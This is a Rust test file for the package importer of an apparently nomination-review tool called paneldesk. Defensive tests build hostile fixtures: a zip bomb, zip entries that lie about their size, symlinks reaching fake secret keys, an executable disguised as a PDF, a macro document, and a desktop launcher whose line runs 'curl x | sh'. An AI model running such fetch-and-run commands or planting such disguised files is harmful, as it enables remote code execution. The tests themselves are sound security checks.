//! Packages: a workbook with the materials its 材料 column names, as a folder or a zip
//! (tests/fixtures/packages/make_packages.py), stored into a real review file.

use std::io::Write;
use std::path::{Path, PathBuf};

use paneldesk::import::file::{import, FileReport};
use paneldesk::import::{sources_in, Source};
use paneldesk::review;
use paneldesk::store::{self, materials};

use super::support::column;
use super::{exemplar_review_in_temp, lie_about_size, T0};

fn packages() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/packages")
}

fn exe() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_paneldesk"))
}

fn run(review: &Path, source: Source) -> FileReport {
    import(review, &source, &exe(), T0, "clerk").unwrap()
}

fn folder_package() -> Source {
    let folder = packages().join("东川理工大学");
    Source::Folder {
        path: folder.join("推荐汇总表.xlsx").display().to_string(),
        folder: folder.display().to_string(),
    }
}

/// A zip package the test wrote at `path`.
fn zip_at(path: &Path) -> Source {
    Source::Zip {
        path: path.display().to_string(),
    }
}

/// Writes `name` in `dir`: a zip of 东川理工大学's workbook and `materials` of the test's
/// own. Answers its path.
fn write_dongchuan_zip(dir: &Path, name: &str, materials: &[(&str, &[u8])]) -> PathBuf {
    let workbook = std::fs::read(packages().join("东川理工大学/推荐汇总表.xlsx")).unwrap();
    let mut entries = vec![("推荐汇总表.xlsx", workbook.as_slice())];
    entries.extend_from_slice(materials);
    let path = dir.join(name);
    write_zip(&path, &entries);
    path
}

fn zip(name: &str) -> Source {
    Source::Zip {
        path: packages().join(name).display().to_string(),
    }
}

/// (named, file name, sha256) of one stored material.
type StoredMaterial = (String, String, String);

/// Display name and materials of every stored nomination.
fn stored_materials(review: &Path) -> Vec<(String, Vec<StoredMaterial>)> {
    let conn = store::open(review).unwrap();
    let mut stmt = conn
        .prepare("SELECT id, display_name FROM nomination ORDER BY id")
        .unwrap();
    let rows: Vec<(i64, String)> = stmt
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    rows.into_iter()
        .map(|(id, name)| {
            let m = materials::for_nomination(&conn, id)
                .unwrap()
                .into_iter()
                .map(|m| (m.named, m.file_name, m.sha256))
                .collect();
            (name, m)
        })
        .collect()
}

fn blob_count(review: &Path) -> i64 {
    let conn = store::open(review).unwrap();
    conn.query_row("SELECT count(*) FROM material_blob", [], |r| r.get(0))
        .unwrap()
}

fn sha_of(path: &Path) -> String {
    paneldesk::keys::sha256_hex(&std::fs::read(path).unwrap())
}

#[test]
fn a_dropped_folder_finds_the_folder_package_and_the_zips() {
    let found = sources_in(&[packages()]);
    let kinds: Vec<(&str, String)> = found
        .iter()
        .map(|s| {
            let kind = match s {
                Source::Workbook { .. } => "workbook",
                Source::Folder { .. } => "folder",
                Source::Zip { .. } => "zip",
            };
            (kind, s.path().file_name().unwrap().to_string_lossy().into())
        })
        .collect();
    assert_eq!(
        kinds,
        [
            ("zip", "两个表.zip".to_string()),
            ("zip", "南湖医科大学.zip".to_string()),
            ("folder", "推荐汇总表.xlsx".to_string()),
        ]
    );
}

#[test]
fn a_folder_package_stores_the_named_materials_flags_the_missing_and_reports_the_extra() {
    let (_dir, review) = exemplar_review_in_temp();
    let r = run(&review, folder_package());
    assert!(r.imported, "{:?}", r.error);
    assert_eq!((r.accepted, r.flagged, r.materials), (3, 1, 3));

    let folder = packages().join("东川理工大学");
    let stored = stored_materials(&review);
    assert_eq!(
        stored,
        [
            (
                "张三".to_string(),
                vec![
                    (
                        "张三-推荐表.pdf".to_string(),
                        "张三-推荐表.pdf".to_string(),
                        sha_of(&folder.join("张三-推荐表.pdf"))
                    ),
                    // Named without its extension: the one file with that stem.
                    (
                        "张三-事迹材料".to_string(),
                        "张三-事迹材料.docx".to_string(),
                        sha_of(&folder.join("张三-事迹材料.docx"))
                    ),
                ]
            ),
            ("李四".to_string(), vec![]),
            (
                "王五".to_string(),
                // In a subfolder, and in capitals.
                vec![(
                    "王五-推荐表.pdf".to_string(),
                    "附件/王五-推荐表.PDF".to_string(),
                    sha_of(&folder.join("附件/王五-推荐表.PDF"))
                )]
            ),
        ]
    );
    // The content itself is in the review file, byte for byte.
    let conn = store::open(&review).unwrap();
    let content = materials::content(&conn, &stored[0].1[0].2)
        .unwrap()
        .unwrap();
    assert_eq!(
        content,
        std::fs::read(folder.join("张三-推荐表.pdf")).unwrap()
    );

    assert_eq!(r.flags.len(), 1);
    assert_eq!(r.flags[0].code, "missing_material");
    assert_eq!(r.flags[0].row, 4);
    assert!(r.flags[0].message_zh.contains("李四-推荐表.pdf"));
    // 说明.txt is reported; .DS_Store is litter, not an extra material.
    let extra: Vec<&str> = r
        .problems
        .iter()
        .filter(|p| p.code == "extra_material")
        .map(|p| p.message_zh.as_str())
        .collect();
    assert_eq!(extra.len(), 1, "{:?}", r.problems);
    assert!(extra[0].contains("说明.txt") && !extra[0].contains("DS_Store"));
    assert!(r.problems.iter().all(|p| p.code == "extra_material"));
}

#[test]
fn reimporting_a_package_replaces_its_materials_without_leaving_orphans() {
    let (_dir, review) = exemplar_review_in_temp();
    run(&review, folder_package());
    assert_eq!(blob_count(&review), 3);
    let again = run(&review, folder_package());
    assert!(again.imported);
    assert_eq!(blob_count(&review), 3);
    assert_eq!(stored_materials(&review).len(), 3);
}

#[test]
fn a_zip_from_chinese_windows_has_its_gbk_names_read_and_its_mac_litter_ignored() {
    let (_dir, review) = exemplar_review_in_temp();
    let r = run(&review, zip("南湖医科大学.zip"));
    assert!(r.imported, "{:?}", r.error);
    assert_eq!(r.university.as_deref(), Some("南湖医科大学"));
    assert_eq!((r.accepted, r.flagged, r.materials), (2, 0, 2));
    assert!(r.problems.is_empty(), "{:?}", r.problems);
    let stored = stored_materials(&review);
    assert_eq!(stored[0].1[0].1, "周九推荐表.pdf");
    assert_eq!(stored[1].1[0].1, "吴十推荐表.pdf");
}

#[test]
fn a_zip_with_two_workbooks_is_refused_with_both_names() {
    let (_dir, review) = exemplar_review_in_temp();
    let r = run(&review, zip("两个表.zip"));
    assert!(!r.imported);
    let e = r.error.unwrap();
    assert_eq!(e.code, "several_workbooks_in_package");
    assert!(e.message_zh.contains("一表.xlsx") && e.message_zh.contains("二表.xlsx"));
    assert!(e.message_en.contains("unzip"));
}

/// A zip package built in the test, with entries that can be made to lie.
fn write_zip(path: &Path, entries: &[(&str, &[u8])]) {
    let mut w = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, data) in entries {
        w.start_file(*name, stored).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap();
}

#[test]
fn a_material_larger_than_its_zip_entry_claims_is_refused_and_the_rest_lands() {
    let (dir, review) = exemplar_review_in_temp();
    let big = vec![b'A'; 4096];
    let path = write_dongchuan_zip(
        dir.path(),
        "东川理工大学.zip",
        &[("zs.pdf", &big), ("王五-推荐表.pdf", b"%PDF-1.4 wang")],
    );
    lie_about_size(&path, "zs.pdf", 16);
    let r = run(&review, zip_at(&path));
    assert!(r.imported, "{:?}", r.error);
    assert_eq!(r.materials, 1, "only 王五's honest file");
    // zs.pdf is named by nobody: reported as extra, never read, never stored.
    assert!(r.problems.iter().any(|p| p.code == "extra_material"));
    assert_eq!(blob_count(&review), 1);
}

#[test]
fn a_named_material_that_lies_about_its_size_is_a_located_problem_and_a_flag() {
    let (dir, review) = exemplar_review_in_temp();
    let big = vec![b'A'; 4096];
    let path = write_dongchuan_zip(dir.path(), "pkg.zip", &[("王五-推荐表.pdf", &big)]);
    lie_about_size(&path, "王五-推荐表.pdf", 16);
    let r = run(&review, zip_at(&path));
    assert!(r.imported, "{:?}", r.error);
    let bad: Vec<_> = r
        .problems
        .iter()
        .filter(|p| p.code == "size_mismatch" || p.code == "io")
        .collect();
    assert_eq!(bad.len(), 1, "{:?}", r.problems);
    assert_eq!(bad[0].row, 5, "王五's row");
    assert!(bad[0].message_zh.contains("王五-推荐表.pdf"));
    let wang = r.flags.iter().find(|f| f.row == 5).unwrap();
    assert_eq!(wang.code, "missing_material");
    assert_eq!(blob_count(&review), 0);
}

#[test]
fn hostile_zips_get_their_own_errors_and_a_batch_carries_on_with_stored_data_intact() {
    let (dir, review) = exemplar_review_in_temp();
    run(&review, zip("南湖医科大学.zip"));
    let before = review::summary(&review).unwrap();

    let not_zip = dir.path().join("假的.zip");
    std::fs::write(&not_zip, "这不是压缩包").unwrap();
    let bomb = dir.path().join("炸弹.zip");
    {
        let mut w = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
        let deflated = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        w.start_file("推荐汇总表.xlsx", deflated).unwrap();
        w.write_all(b"x").unwrap();
        w.start_file("材料.pdf", deflated).unwrap();
        w.write_all(&vec![0u8; 64 << 20]).unwrap();
        w.finish().unwrap();
    }
    let empty = dir.path().join("空.zip");
    write_zip(&empty, &[("说明.txt", "没有表".as_bytes())]);
    let sources = vec![zip_at(&not_zip), zip_at(&bomb), zip_at(&empty)];
    let reports = crate::import_batch(&review, &sources);
    let codes: Vec<&str> = reports
        .iter()
        .map(|r| r.error.as_ref().unwrap().code.as_str())
        .collect();
    assert_eq!(
        codes,
        ["not_a_zip", "suspicious_archive", "no_workbook_in_package"]
    );
    for r in &reports {
        let e = r.error.as_ref().unwrap();
        assert!(e.message_zh.contains(&r.file), "{}", e.message_zh);
    }
    assert_eq!(review::summary(&review).unwrap(), before);
}

/// Copies `from` into `to`, files only (the fixture folders are shallow).
fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let p = e.unwrap().path();
        let dest = to.join(p.file_name().unwrap());
        if p.is_dir() {
            copy_tree(&p, &dest);
        } else {
            std::fs::copy(&p, &dest).unwrap();
        }
    }
}

#[cfg(unix)]
#[test]
fn links_in_a_folder_package_are_never_followed_so_no_file_outside_it_is_packaged() {
    use std::os::unix::fs::symlink;
    let (dir, review) = exemplar_review_in_temp();
    // What a university must never reach: the clerk's keys, outside the package.
    let secrets = dir.path().join("paneldesk/keys");
    std::fs::create_dir_all(&secrets).unwrap();
    let secret = b"{\"signing_seed\":\"0303\",\"age_identity\":\"AGE-SECRET-KEY-1\"}";
    std::fs::write(secrets.join("王五-推荐表.PDF"), secret).unwrap();
    std::fs::write(secrets.join("clerk.json"), secret).unwrap();
    // The package: 附件 is a link to that folder, 张三's file a link to one of its files.
    let folder = dir.path().join("东川理工大学");
    copy_tree(&packages().join("东川理工大学"), &folder);
    std::fs::remove_dir_all(folder.join("附件")).unwrap();
    symlink(&secrets, folder.join("附件")).unwrap();
    std::fs::remove_file(folder.join("张三-推荐表.pdf")).unwrap();
    symlink(secrets.join("clerk.json"), folder.join("张三-推荐表.pdf")).unwrap();
    // And a dropped folder holding a link to another folder of workbooks.
    let dropped = dir.path().join("收到的推荐表");
    std::fs::create_dir_all(&dropped).unwrap();
    symlink(&folder, dropped.join("链接")).unwrap();
    assert!(
        paneldesk::import::sources_in(&[dropped]).is_empty(),
        "a linked folder is not walked"
    );

    let r = run(
        &review,
        Source::Folder {
            path: folder.join("推荐汇总表.xlsx").display().to_string(),
            folder: folder.display().to_string(),
        },
    );
    assert!(r.imported, "{:?}", r.error);
    let conn = store::open(&review).unwrap();
    let blobs: Vec<Vec<u8>> = column(&conn, "SELECT content FROM material_blob");
    assert!(!blobs.iter().any(|b| b == secret), "a secret was packaged");
    // Each named material that is a link is a located problem the clerk sees.
    let links: Vec<&str> = r
        .problems
        .iter()
        .chain(r.flags.iter())
        .filter(|p| p.message_zh.contains("链接"))
        .map(|p| p.message_zh.as_str())
        .collect();
    assert!(
        links.iter().any(|m| m.contains("张三-推荐表.pdf")),
        "{:?} {:?}",
        r.problems,
        r.flags
    );
}

#[test]
fn programs_launchers_and_macro_documents_in_a_package_are_flagged_and_never_stored() {
    let (dir, review) = exemplar_review_in_temp();
    // 张三's 推荐表 is a program in disguise; 王五's is a launcher; 张三's 事迹材料 a
    // document with macros. 李四's file is what it says.
    let path = write_dongchuan_zip(
        dir.path(),
        "东川理工大学.zip",
        &[
            (
                "张三-推荐表.pdf",
                b"MZ\x90\0\x03\0\0\0 this program cannot be run in DOS mode",
            ),
            (
                "张三-事迹材料.docm",
                b"PK\x03\x04 [Content_Types].xml word/vbaProject.bin",
            ),
            ("李四-推荐表.pdf", b"%PDF-1.4\n%%EOF\n"),
            (
                "王五-推荐表.pdf",
                b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x | sh'\n",
            ),
        ],
    );
    let r = run(&review, zip_at(&path));
    assert!(r.imported, "{:?}", r.error);
    let flags: Vec<(&str, &str)> = r
        .flags
        .iter()
        .filter(|f| f.code == "material_not_allowed")
        .map(|f| (f.code.as_str(), f.message_zh.as_str()))
        .collect();
    assert_eq!(flags.len(), 3, "{:?}", r.flags);
    assert!(flags
        .iter()
        .any(|(_, m)| m.contains("张三-推荐表.pdf") && m.contains("程序")));
    assert!(flags
        .iter()
        .any(|(_, m)| m.contains("张三-事迹材料.docm") && m.contains("宏")));
    assert!(flags.iter().any(|(_, m)| m.contains("王五-推荐表.pdf")));
    // Only the real PDF is in the review, so only it can reach a package.
    let stored = stored_materials(&review);
    let all: Vec<&str> = stored
        .iter()
        .flat_map(|(_, m)| m.iter().map(|(_, file, _)| file.as_str()))
        .collect();
    assert_eq!(all, ["李四-推荐表.pdf"]);
}
